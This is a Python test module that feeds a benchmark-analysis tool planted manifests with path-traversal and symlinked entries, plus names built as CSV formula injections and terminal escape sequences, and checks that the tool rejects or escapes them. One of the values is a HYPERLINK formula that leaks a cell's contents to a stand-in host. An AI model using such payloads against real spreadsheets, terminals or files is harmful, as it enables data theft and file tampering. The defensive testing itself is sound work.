"""The bad-input corpus, issue 32: a folder handed to the user by someone else (planted manifests, symbolic
links), an environment that fails under a write, names that are formulas or terminal escapes.

The group numbers continue cases.py's (9: planted manifests, 10: names that are formulas or terminal
escapes). test_hostile.py runs these cases with the
same checks as test_corpus.py (exit code, one line, nothing written, planted files unchanged).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
from typing import Any

from cases import _compress, _score
from corpus import FOREIGN, Case, Env

HOSTILE_CASES: list[Case] = []


def case(*args: Any, **kwargs: Any) -> None:
    HOSTILE_CASES.append(Case(*args, **kwargs))


# --- group 9: a planted manifest never makes benchsift remove or overwrite a file outside the folder -----


def _entry(path: Any) -> dict[str, Any]:
    """The manifest entry that matches the file ``path`` (its real size and sha256)."""
    data = path.read_bytes()
    return {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}


def _plant(env: Env, folder: str, files: dict[str, Any] | None = None, text: str | None = None) -> None:
    """``folder/.benchsift-manifest.json`` with ``files`` (or the raw ``text``)."""
    body = text if text is not None else json.dumps({"written_by": "benchsift", "files": files})
    env.write(f"{folder}/.benchsift-manifest.json", body)


def _victim_entries(env: Env, *names: str) -> dict[str, Any]:
    """Entries naming the user's notes.md (outside the output folder) by ``names``, each with its real size
    and sha256, beside an entry ``notes.md`` (the old ownership check looked only at the last name)."""
    entry = _entry(env.root / "notes.md")
    return {"notes.md": entry, **{n: entry for n in names}}


def _warned(*needles: str) -> Any:
    """Check: one ``benchsift: warning:`` line naming the manifest and each of ``needles``."""

    def check(env: Env, res: Any) -> None:
        lines = [x for x in res.stderr.splitlines() if x.startswith("benchsift: warning: ")]
        assert any(".benchsift-manifest.json" in x and all(n in x for n in needles) for x in lines), (
            res.stderr
        )
        assert (env.root / "o" / "items.csv").is_file() or (env.root / "o" / "leaderboard.csv").is_file()

    return check


def _compress_o(env: Env) -> list[str]:
    env.panel()
    return _compress("o")


def _score_o(env: Env) -> list[str]:
    return _score(env, "o")


def _parent_entry(run: Any) -> Any:
    def setup(env: Env) -> list[str]:
        _plant(env, "o", _victim_entries(env, "../notes.md"))
        return run(env)

    return setup


def _absolute_entry(run: Any) -> Any:
    def setup(env: Env) -> list[str]:
        _plant(env, "o", _victim_entries(env, str(env.root / "notes.md")))
        return run(env)

    return setup


def _link_entry(run: Any) -> Any:
    """``o/link`` a symbolic link to the working directory, the entry ``link/notes.md``."""

    def setup(env: Env) -> list[str]:
        env.write("o/keep.txt", FOREIGN)
        (env.root / "o" / "link").symlink_to(env.root, target_is_directory=True)
        _plant(env, "o", _victim_entries(env, "link/notes.md", "./../notes.md", "link\\..\\notes.md"))
        return run(env)

    return setup


for _name, _run in (("compress", _compress_o), ("score", _score_o)):
    case(
        f"{_name}-manifest-parent-entry",
        9,
        _parent_entry(_run),
        outcome="ok",
        writes=("o/*",),
        check=_warned("'../notes.md'"),
    )
    case(
        f"{_name}-manifest-absolute-entry",
        9,
        _absolute_entry(_run),
        outcome="ok",
        writes=("o/*",),
        check=_warned("/notes.md'"),
    )
    case(
        f"{_name}-manifest-symlinked-subfolder-entry",
        9,
        _link_entry(_run),
        outcome="ok",
        writes=("o/*",),
        check=_warned("'link/notes.md'", "3 entries"),
    )
    case(
        f"{_name}-manifest-is-a-directory",
        9,
        lambda e, r=_run: ((e.root / "o" / ".benchsift-manifest.json").mkdir(parents=True), r(e))[1],
        match=r"o/\.benchsift-manifest\.json: is a directory where benchsift keeps its manifest",
    )
    case(
        f"{_name}-manifest-nested-200000-deep",
        9,
        lambda e, r=_run: (_plant(e, "o", text="[" * 200_000 + "]" * 200_000), r(e))[1],
        outcome="ok",
        writes=("o/*",),
        check=_warned("not valid JSON"),
    )
    case(
        f"{_name}-manifest-is-a-list",
        9,
        lambda e, r=_run: (_plant(e, "o", text=json.dumps([_victim_entries(e, "../notes.md")])), r(e))[1],
        outcome="ok",
        writes=("o/*",),
        check=_warned('"files" object'),
    )
    case(
        f"{_name}-manifest-links-to-secret",
        9,
        lambda e, r=_run: (
            os.makedirs(e.root / "o"),
            (e.root / "o" / ".benchsift-manifest.json").symlink_to(e.secret),
            r(e),
        )[2],
        outcome="ok",
        writes=("o/*",),
        check=_warned("symbolic link"),
    )


def _manifest_fifo(env: Env) -> list[str]:
    (env.root / "o").mkdir()
    os.mkfifo(env.root / "o" / ".benchsift-manifest.json")
    return _compress_o(env)


case(
    "compress-manifest-is-a-fifo",
    9,
    _manifest_fifo,
    outcome="ok",
    writes=("o/*",),
    check=_warned("not a regular file"),
)


def _figures_link(env: Env) -> list[str]:
    """``o/figures`` a symbolic link to a folder outside, which holds a file of the user's and a manifest
    that lists it (a prune there would delete it)."""
    env.write("elsewhere/fig.png", FOREIGN)
    _plant(env, "elsewhere", {"fig.png": _entry(env.root / "elsewhere" / "fig.png")})
    (env.root / "o").mkdir()
    (env.root / "o" / "figures").symlink_to(env.root / "elsewhere", target_is_directory=True)
    return _score(env, "o")


case(
    "score-symlinked-figures-folder",
    9,
    _figures_link,
    match=r"o/figures: is a symbolic link inside the output folder",
)


def _bad_entries(env: Env) -> list[str]:
    """Entries of every wrong shape, each naming the user's notes.md one way or another."""
    good = _entry(env.root / "notes.md")
    files: dict[str, Any] = {
        "notes.md": {"size": good["size"], "sha256": good["sha256"].upper()},
        "../notes.md": {"size": str(good["size"]), "sha256": good["sha256"]},
        "": good,
        ".": good,
        "..": good,
        "a\x00b": good,
        ".benchsift-manifest.json": good,
        "x.csv": [good["size"], good["sha256"]],
        "y.csv": {"size": True, "sha256": good["sha256"]},
        "z.csv": {"size": -1, "sha256": good["sha256"]},
    }
    _plant(env, "o", files)
    env.write("o/x.csv", FOREIGN)
    env.write("o/y.csv", FOREIGN)
    env.write("o/z.csv", FOREIGN)
    return _compress_o(env)


case(
    "compress-manifest-malformed-entries",
    9,
    _bad_entries,
    outcome="ok",
    writes=("o/*",),
    check=lambda e, r: (
        _warned("10 entries")(e, r),
        [(e.root / "o" / n).read_text() == FOREIGN or 1 / 0 for n in ("x.csv", "y.csv", "z.csv")],
    ),
)


# --- group 10: names that are formulas or terminal escapes ----------------------------------------------

#: model names a spreadsheet would run, or a terminal would act on (window title, clear screen, bell)
HOSTILE_MODELS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+SUM(1,1)",
    "-2+3",
    "@cmd",
    "\x1b]0;pwned\x07model4",
    "\x1b[2Jmodel5",
]
#: the four models of the corpus's verdict table renamed
VERDICT_MODELS = [HOSTILE_MODELS[4], HOSTILE_MODELS[0], HOSTILE_MODELS[1], HOSTILE_MODELS[3]]
#: benchmark names of the same kinds
HOSTILE_BENCHMARKS = {"bench00": "=bench00", "bench01": "@bench01", "bench02": "\x1b[31mbench02"}
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?|[+-]?(?:inf|nan)", re.IGNORECASE)


def _hostile_panel(env: Env) -> str:
    """The corpus panel with its first models and benchmarks renamed to :data:`HOSTILE_MODELS` and
    :data:`HOSTILE_BENCHMARKS`."""
    from benchsift.panel import Panel

    p = Panel.load(env.assets["panel"])
    models, items = p.models.copy(), p.items.copy()
    names = list(dict.fromkeys(models["model"]))
    rename = dict(zip(names, HOSTILE_MODELS, strict=False))
    models["model"] = models["model"].map(lambda m: rename.get(m, m))
    items["benchmark"] = items["benchmark"].map(lambda b: HOSTILE_BENCHMARKS.get(b, b))
    Panel(p.scores, models, items).save(env.root / "hostile.parquet")
    return "hostile.parquet"


def _hostile_verdicts(env: Env) -> str:
    import pandas as pd

    table = pd.read_csv(env.assets["verdicts"], dtype={"model": str, "item": str})
    names = list(dict.fromkeys(table["model"]))
    rename = dict(zip(names, VERDICT_MODELS, strict=True))
    table["model"] = table["model"].map(lambda m: rename.get(m, m))
    table.to_parquet(env.root / "hostile.parquet", index=False)
    return "hostile.parquet"


def _formula_cells(folder: Any) -> list[tuple[str, str]]:
    """(file, cell) of every CSV cell under ``folder`` a spreadsheet would read as a formula."""
    bad = []
    for path in sorted(folder.rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                bad += [
                    (path.name, c) for c in row if c.startswith(_TRIGGERS) and _NUMBER.fullmatch(c) is None
                ]
    return bad


def _neutralised(*raw_files: str, names: tuple[str, ...]) -> Any:
    """Check: no formula cell in o/*.csv, some cell neutralised ('=...), and the raw names in the JSON
    files ``raw_files`` (parquet and JSON keep the value)."""

    def check(env: Env, res: Any) -> None:
        out = env.root / "o"
        assert not _formula_cells(out), _formula_cells(out)[:5]
        cells = "".join(p.read_text(encoding="utf-8") for p in out.rglob("*.csv"))
        assert any(f"'{n}" in cells or f"'{n}".replace('"', '""') in cells for n in names), names
        for rel in raw_files:
            text = json.dumps(json.loads((out / rel).read_text(encoding="utf-8")))
            assert any(json.dumps(n)[1:-1] in text for n in names), rel

    return check


case(
    "audit-out-formula-names",
    10,
    lambda e: ["audit", _hostile_panel(e), "--out", "o", "--json"],
    outcome="ok",
    writes=("hostile.parquet", "o/*"),
    check=_neutralised("audit.json", names=("=bench00", "@bench01")),
)
case(
    "score-out-formula-names",
    10,
    lambda e: ["prism", "score", _hostile_verdicts(e), "--bootstrap", "50", "--out", "o", "--json"],
    outcome="ok",
    writes=("hostile.parquet", "o/*"),
    check=_neutralised("result.json", names=tuple(VERDICT_MODELS[1:])),
)

case(
    "compare-out-formula-names",
    10,
    lambda e: ["compare", _hostile_panel(e), "--n-boot", "50", "--out", "o", "--json"],
    outcome="ok",
    writes=("hostile.parquet", "o/*"),
    check=_neutralised("compare.json", names=tuple(HOSTILE_MODELS[:4])),
)


def _suite_round_trip(env: Env, res: Any) -> None:
    from benchsift.compression.suite import load_suite

    _neutralised("suite.json", names=("=bench00", "@bench01"))(env, res)
    suite = load_suite(env.root / "o")
    assert set(suite.items["benchmark"]) <= set(HOSTILE_BENCHMARKS.values()) | {
        "bench03",
        "bench04",
        "bench05",
    }
    assert "=bench00" in set(suite.items["benchmark"]) or "@bench01" in set(suite.items["benchmark"])
    assert set(HOSTILE_MODELS[:4]) <= set(suite.reference_models), suite.reference_models


case(
    "compress-out-formula-names",
    10,
    lambda e: ["compress", _hostile_panel(e), "--out", "o", "--k", "3", "--floor", "0", "--json"],
    outcome="ok",
    writes=("hostile.parquet", "o/*"),
    check=_suite_round_trip,
)


def _csv_stdout_neutral(env: Env, res: Any) -> None:
    rows = [r for r in csv.reader(io.StringIO(res.stdout)) if r and not r[0].startswith("# ")]
    cells = [c for r in rows for c in r]
    assert "'+SUM(1,1)" in cells, cells[:40]
    assert not [c for c in cells if c.startswith(_TRIGGERS) and _NUMBER.fullmatch(c) is None]


case(
    "info-format-csv-formula-names",
    10,
    lambda e: ["info", _hostile_panel(e), "--format", "csv"],
    outcome="ok",
    writes=("hostile.parquet",),
    check=_csv_stdout_neutral,
)


def _no_raw_controls(env: Env, res: Any) -> None:
    for stream in (res.stdout, res.stderr):
        assert not any(c in stream for c in "\x1b\x07\x9b"), repr(stream[:300])
    assert "\\x1b]0;pwned\\x07model4" in res.stdout, res.stdout[:2000]


case(
    "info-escape-names",
    10,
    lambda e: ["info", _hostile_panel(e)],
    outcome="ok",
    writes=("hostile.parquet",),
    check=_no_raw_controls,
)
case(
    "score-table-escape-names",
    10,
    lambda e: ["prism", "score", _hostile_verdicts(e), "--bootstrap", "50"],
    outcome="ok",
    writes=("hostile.parquet",),
    check=_no_raw_controls,
)


def _json_raw(env: Env, res: Any) -> None:
    assert "\x1b" not in res.stdout  # JSON writes it as \u001b ...
    assert "\\u001b]0;pwned\\u0007model4" in res.stdout  # ... and keeps it: the raw name, escaped by JSON


case(
    "info-json-keeps-raw-names",
    10,
    lambda e: ["info", _hostile_panel(e), "--json"],
    outcome="ok",
    writes=("hostile.parquet",),
    check=_json_raw,
)
case(
    "error-escape-file-name",
    10,
    lambda e: ["info", "no\x1b]0;pwned\x07such\x1b[2J.parquet"],
    match=r"no\\x1b\]0;pwned\\x07such\\x1b\[2J\.parquet",
)
case(
    "error-escape-not-a-panel",
    10,
    lambda e: (e.write("bad\x1b[2J\x07.parquet", "not parquet"), ["info", "bad\x1b[2J\x07.parquet"])[1],
    match=r"bad\\x1b\[2J\\x07\.parquet",
)


def _warning_escaped(env: Env, res: Any) -> None:
    line = [x for x in res.stderr.splitlines() if x.startswith("benchsift: warning: ")]
    assert line and "\\x1b]0;pwned\\x07" in line[0], res.stderr
    assert "\x1b" not in res.stderr and "\x07" not in res.stderr


case(
    "warning-escape-manifest-entry",
    10,
    lambda e: (_plant(e, "o", {"\x1b]0;pwned\x07../notes.md": _entry(e.root / "notes.md")}), _compress_o(e))[
        1
    ],
    outcome="ok",
    writes=("o/*",),
    check=_warning_escaped,
)
